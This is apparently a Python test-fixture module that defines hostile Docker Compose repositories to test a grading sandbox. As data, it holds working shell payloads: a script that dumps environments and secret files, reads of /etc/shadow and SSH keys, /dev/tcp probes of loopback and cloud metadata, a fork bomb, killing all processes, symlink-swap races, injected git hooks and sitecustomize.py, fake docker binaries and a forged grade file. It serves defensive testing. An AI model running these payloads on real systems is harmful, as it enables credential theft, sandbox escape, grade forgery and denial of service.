"""Hostile repositories that do harm only once they are brought up, as data; hostile files alone are in `hostile/`.

In the files, `{marks}` is a folder of the grader's machine in which nothing must appear, `{secret}` a file of the
grader's that must not be read, and `{port}` a service on its loopback address that must not be contacted. Each attack
is beside the same work without it, which earns 20.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Final, Literal

COMPOSE: Final = """\
name: box
services:
  box:
    image: ubuntu
    init: true
    command: ["sh", "-c", {command}]
    volumes: ["./data:/data"{volumes}]
{more}"""
SLEEP: Final = "sleep 600"
SCRIPT: Final = "docker compose up -d\n"
EVIL: Final = """\
#!/bin/sh
{ echo "$0 $*"; id; tr '\\0' '\\n' < /proc/$PPID/environ; cat {secret}; } > {marks}/$$ 2>&1
"""
SWAP: Final = """\
  swap:
    image: ubuntu
    init: true
    volumes: [".:/w"]
    command: ["bash", "-c", "while :; do rm -rf /w/in; ln -sfn / /w/in; mv /w/deep /w/gone; ln -sfn / /w/deep; ln -sfn / /w/er; sleep 0.1; done"]
  reader:
    image: ubuntu
    restart: always
    depends_on: [swap]
    volumes: ["./in:/host", "./deep/er:/host2"]
    command: ["bash", "-c", "sleep 1; for d in /host /host2; do echo x > $$d{marks}/$$RANDOM; cat $$d{secret}; done; exit 1"]
"""
"""One service puts links to `/` in the place of what another one mounts, again at each of its starts."""
PROVIDER: Final = "  yy:\\n    profiles: [x]\\n    provider: {type: ./evil.sh}\\n"


@dataclass(frozen=True)
class Attack:
    kind: Literal["containers", "script", "files", "engine", "limits"]
    name: str
    files: dict[str, str]
    ends: Literal["graded", "refused", "either"] = "graded"
    """Whether it is graded, refused by the policy, or either of them."""
    points: int | None = None
    """Its mark if it is graded; `None` if the attack loses points because it breaks its own work."""
    links: dict[str, str] = field(default_factory=dict)

    def files_for(self, **places: str) -> dict[str, str]:
        return {path: _with_places(text, places) for path, text in self.files.items()}


def _with_places(text: str, places: dict[str, str]) -> str:
    for name, place in places.items():
        text = text.replace("{" + name + "}", place)
    return text


def compose(command: str = SLEEP, volumes: str = "", more: str = "") -> str:
    return COMPOSE.replace("{command}", json.dumps(command)).replace("{volumes}", volumes).replace("{more}", more)


def _container(name: str, does: str, *, mounts: str = "./compose.yaml:/w/compose.yaml", **files: str) -> Attack:
    """A second service that does something while the first is graded."""
    command = json.dumps(["bash", "-c", f"{does}; sleep 600"])
    more = f"  zz:\n    image: ubuntu\n    init: true\n    volumes: ['{mounts}']\n    command: {command}\n"
    own = {f"tp10/{path.replace('_', '.')}": text for path, text in files.items()}
    return Attack("containers", name, {"tp10/compose.yaml": compose(more=more), "tp10/data/k": "", **own}, points=20)


def _script(name: str, line: str, *, points: int | None = 20, ends: Literal["graded", "refused", "either"] = "graded",
            **files: str) -> Attack:  # fmt: skip
    own = {f"tp10/{path.replace('_', '.')}": text for path, text in files.items()}
    return Attack(
        "script",
        name,
        {"tp10/compose.yaml": compose(), "tp10/data/k": "", "tp10/up.sh": f"{SCRIPT}{line}\n", **own},
        ends,
        points,
    )


ATTACKS: Final = (
    # Containers that change files which the grader's own programs are to read later.
    _container("a provider is appended to the compose file", f"printf '{PROVIDER}' >> /w/compose.yaml", evil_sh=EVIL),
    _container("an env file of the grader's is appended", "printf '    env_file: {secret}\\n' >> /w/compose.yaml"),
    _container("an include of the grader's file is appended", "printf 'include: [{secret}]\\n' >> /w/compose.yaml"),
    _container("a config from the grader's file is appended", "printf 'configs: {c: {file: {secret}}}\\n' >> /w/compose.yaml"),
    _container("the compose file is emptied", ": > /w/compose.yaml"),
    _container("the compose file grows without end", "yes >> /w/compose.yaml"),
    _container("a build of the grader's folder is appended", "printf '    build: /\\n' >> /w/compose.yaml"),
    _container("a variable of the grader's is asked for", "printf '    labels: [\"x=$$CI_JOB_TOKEN\"]\\n' >> /w/compose.yaml"),
    _container("the folder of the work is filled with links", "for i in 1 2 3; do ln -s / /w/l$$i; done", mounts="./data:/w"),
    _container("the mounted folder gets a link to the grader's disk", "rm -rf /w/site; ln -s / /w/site", mounts="./data:/w"),
    _container("the mounted folder gets a pipe", "mkfifo /w/index.html /w/compose.yaml", mounts="./data:/w"),
    _container("the mounted folder is closed", "mkdir /w/c; touch /w/c/x; chmod 0 /w/c", mounts="./data:/w"),
    _container("folders in folders without end", "cd /w; for i in $$(seq 900); do mkdir d; cd d; done", mounts="./data:/w"),
    _container("a program with set-user-id is left", "cp /bin/sh /w/sh; chmod 4777 /w/sh", mounts="./data:/w"),
    Attack("containers", "folders inside a mounted folder are replaced by links before others mount them", {
        "tp10/compose.yaml": compose(more=SWAP), "tp10/data/k": "", "tp10/in/k": "", "tp10/deep/er/k": ""}, points=20),
    Attack("containers", "the folder of the work is replaced in a folder of the student's own computer", {
        "tp10/compose.yaml": compose(more=SWAP.replace(".:/w", "/home/zoe/box:/w").replace("./in:", "/home/zoe/box/in:").replace("./deep/er:", "/home/zoe/box/deep/er:")),
        "tp10/data/k": ""}, points=20),
    # Scripts.
    _script("a provider after up", f"printf '{PROVIDER}' >> compose.yaml", evil_sh=EVIL, ends="refused", points=None),
    _script("a provider in another file", f"printf 'services:\\n{PROVIDER}' > docker-compose.yml", evil_sh=EVIL, ends="refused", points=None),
    _script("the compose file becomes a link to a file of the grader's", "ln -sf {secret} compose.yaml", ends="either", points=None),
    _script("the compose file becomes a pipe", "rm compose.yaml; mkfifo compose.yaml", points=None),
    _script("the compose file becomes a folder", "rm compose.yaml; mkdir compose.yaml", ends="either", points=None),
    _script("a .env that steers Compose", "echo COMPOSE_FILE={secret} > .env", ends="refused", points=None),
    _script("a .env that links to a file of the grader's", "ln -s {secret} .env", ends="refused", points=None),
    _script("a Docker configuration with a helper", "mkdir -p ~/.docker; echo '{\"credsStore\": \"evil\", \"cliPluginsExtraDirs\": [\".\"]}' > ~/.docker/config.json; cp evil.sh ~/docker-credential-evil; cp evil.sh docker-x", evil_sh=EVIL),
    _script("a program of its own named docker", "mkdir -p ~/bin; cp evil.sh ~/bin/docker; cp evil.sh docker; cp evil.sh docker-compose; export PATH=~/bin:.:$PATH", evil_sh=EVIL),
    _script("the environment of all processes", "cat /proc/*/environ | tr '\\0' '\\n'; env"),
    _script("files of the grader's", "cat {secret} /root/.ssh/* /etc/shadow {marks}/../*/*; true"),
    _script("writing outside", "echo x > {marks}/x; mkdir -p {marks}; echo x > {marks}/y; true"),
    _script("a service on the grader's loopback address", "exec 3<>/dev/tcp/127.0.0.1/{port} && cat <&3; true"),
    _script("the metadata service of a cloud", "timeout 2 bash -c 'exec 3<>/dev/tcp/169.254.169.254/80'; true"),
    _script("processes of the grader", "for p in /proc/[0-9]*; do [ ${p#/proc/} = $$ ] || kill -9 ${p#/proc/}; done 2>/dev/null; true"),
    _script("a process that stays", "setsid nohup bash -c 'while :; do echo x > {marks}/x; sleep 0.1; done' >/dev/null 2>&1 & sleep 0.3"),
    _script("a mount of its own", "unshare -rm mount --bind / . && echo x > {marks}/x; mount -t tmpfs none . ; true"),
    _script("a file descriptor that was left open", "for fd in /proc/self/fd/*; do cat $fd < /dev/null; done 2>/dev/null; true"),
    _script("a hook of git", "mkdir -p .git/hooks ../.git/hooks; cp evil.sh .git/hooks/post-checkout; printf '[core]\\nfsmonitor=./evil.sh\\n' > ../.git/config", evil_sh=EVIL),
    _script("settings of hadolint and Python", "printf 'x' > .hadolint.yaml; echo 'import os; os.system(\"touch {marks}/x\")' | tee sitecustomize.py ~/sitecustomize.py json.py >/dev/null"),
    _script("results of its own", "mkdir -p results/tp10; echo '{}' > results/tp10/e2301234.json; echo 'mark 20/20 (100 %)'"),
    _script("another project's containers by a label", "docker run -d --name other --label com.docker.compose.project=box --label com.docker.compose.service=box --label com.docker.compose.project.working_dir=/etc --label com.docker.compose.project.config_files={secret} ubuntu sleep 600", points=None),
    _script("an address of git as a project's file", "docker run -d --name other --label com.docker.compose.project=box --label com.docker.compose.service=box --label com.docker.compose.project.working_dir=$PWD --label com.docker.compose.project.config_files=git@127.0.0.1:x.git ubuntu sleep 600", points=None),
    _script("an option as a project's file", "docker run -d --name other --label com.docker.compose.project=--help --label com.docker.compose.project.config_files=--env-file={secret} ubuntu sleep 600", points=20),
    _script("a mount of the grader's folder for a check to read", "docker rm -f box-box-1; docker run -d --name box-box-1 --label com.docker.compose.project=box --label com.docker.compose.service=box -v /etc:/data ubuntu sleep 600", points=None),
    # Files in the repository.
    Attack("files", "an env file of the grader's by an image's label", {
        "tp10/compose.yaml": compose().replace("image: ubuntu", "build: .").replace("init: true", "init: true\n    labels: ['x=${GRADER_SECRET:-none}']"),
        "tp10/Dockerfile": "FROM ubuntu\nLABEL com.docker.compose.project.environment_file={secret}\n", "tp10/data/k": ""}, "refused"),
    Attack("files", "links out of the repository everywhere", {"tp10/compose.yaml": compose(), "tp10/data/k": ""}, points=20,
           links={"tp10/data/l": "/", "tp10/.dockerignore": "/etc/shadow", "results": "/etc", "tp10/exercise.toml": "/etc/passwd", ".git": "/etc"}),
    Attack("files", "a compose file that is a link", {"tp10/data/k": ""}, "refused", links={"tp10/compose.yaml": "{secret}"}),
    Attack("files", "the work's folder is a link", {"x/k": ""}, "either", links={"tp10": "/etc"}),
    # Disk, processes, memory and output used up.
    Attack("limits", "a .env that doubles itself", {
        "tp10/compose.yaml": compose(), "tp10/data/k": "",
        "tp10/.env": "a0=xxxxxxxxxx\n" + "".join(f"a{n}=" + f"${{a{n - 1}}}" * 10 + "\n" for n in range(1, 9))}, "refused"),
    Attack("limits", "a container that fills the disk", {
        "tp10/compose.yaml": compose("for i in 1 2 3 4 5 6; do head -c 300M /dev/zero > /data/f$$i; done; sleep 600"), "tp10/data/k": ""}),
    Attack("limits", "a container with one file without end", {
        "tp10/compose.yaml": compose("head -c 1300M /dev/zero > /data/f; sleep 600"), "tp10/data/k": ""}, points=20),
    Attack("limits", "a container that fills its own layer", {
        "tp10/compose.yaml": compose("for i in 1 2 3 4 5 6; do head -c 300M /dev/zero > /var/f$$i; done; sleep 600"), "tp10/data/k": ""}),
    Attack("limits", "a container that fills a volume", {
        "tp10/compose.yaml": compose("for i in 1 2 3 4 5 6; do head -c 300M /dev/zero > /v/f$$i; done; sleep 600", ', "v1:/v"', "volumes: {v1: {}}\n"),
        "tp10/data/k": ""}),
    Attack("limits", "a container with processes without end", {
        "tp10/compose.yaml": compose("b() { b | b & }; sleep 1; b; sleep 600"), "tp10/data/k": ""}),
    Attack("limits", "a container with memory without end", {
        "tp10/compose.yaml": compose("sleep 1; tail /dev/zero; sleep 600"), "tp10/data/k": ""}, points=20),
    Attack("limits", "a container that prints without end", {
        "tp10/compose.yaml": compose("sleep 1; yes; sleep 600"), "tp10/data/k": ""}, points=20),
)  # fmt: skip
